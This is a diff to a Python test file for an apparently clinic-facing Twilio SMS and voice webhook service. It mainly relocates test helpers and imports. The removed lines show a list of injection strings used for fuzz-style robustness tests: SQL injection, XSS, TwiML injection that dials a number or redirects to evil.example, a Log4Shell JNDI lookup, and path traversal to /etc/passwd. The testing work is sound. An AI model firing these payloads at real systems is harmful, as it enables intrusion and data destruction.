@@ -18,9 +18,10 @@ from sqlalchemy import select
 from assistant.db.models import Conversation, ConversationTurn, OutboundMessage, StaffTask
 from assistant.unit_of_work import UnitOfWork
 from tests import factories
-from tests.reliability.conftest import (
+from tests.factories.reliability import (
     CALL_SID,
     EXAMPLES,
+    INJECTIONS,
     PATIENT_PHONE,
     PRACTICE_PHONE,
     ScriptedRasa,
@@ -28,9 +29,10 @@ from tests.reliability.conftest import (
     row_counts,
     seed_practice,
     sms_twiml,
+    text_chars,
     voice_twiml,
 )
-from tests.webhooks.conftest import AUTH_TOKEN, PUBLIC_BASE_URL, make_settings
+from tests.factories.webhooks import AUTH_TOKEN, PUBLIC_BASE_URL, make_settings
 from webhooks import create_app
 from webhooks.twilio.errors import _NOT_XML
 from webhooks.twilio.status import MESSAGE_ORDER
@@ -64,27 +66,6 @@ CALLBACK_ROUTES = [
 SMS_ROUTE = "/twilio/sms"
 ALL_ROUTES = [*VOICE_ROUTES, *STAFF_ROUTES, *CALLBACK_ROUTES, SMS_ROUTE]
 
-INJECTIONS = [
-    "'; DROP TABLE patients; --",
-    "Robert'); DROP TABLE conversations;--",
-    "' OR '1'='1",
-    "1; SELECT pg_sleep(10)",
-    "<script>alert(document.cookie)</script>",
-    '"><img src=x onerror=alert(1)>',
-    "]]></Say><Dial>+19005550000</Dial><Say><![CDATA[",
-    "</Message><Redirect>https://evil.example/</Redirect><Message>",
-    "&amp; &lt; &#0; &#xD800;",
-    "{{7*7}} ${7*7} %s%s%s%n",
-    "${jndi:ldap://evil.example/a}",
-    "\u202eevil\u202c",
-    "Jos\u00e9 \u00d1u\u00f1ez \U0001f600",
-    "../../etc/passwd",
-    "/request_human",
-    '/inform{"patient_id": 1}',
-]
-# Text Twilio could carry (no NUL: it never sends one, and PostgreSQL text refuses it; see the
-# separate NUL test below).
-text_chars = st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00")
 hostile_text = st.one_of(
     st.sampled_from(INJECTIONS),
     st.text(text_chars, max_size=200),
@@ -454,9 +435,9 @@ def bare_twilio(sqlite_url: str) -> Iterator[Twilio]:
 def test_message_status_callbacks_in_any_order_only_move_forward(
     sqlite_url, bare_twilio, order, data
 ):
-    from tests.conftest import _empty_all_tables
+    from tests.factories.databases import empty_all_tables
 
-    _empty_all_tables(sqlite_url)
+    empty_all_tables(sqlite_url)
     sid = "SM" + "5" * 32
     _outbound_message(sqlite_url, sid, "queued")
     callbacks = order + data.draw(st.lists(st.sampled_from(order), max_size=3))  # duplicates
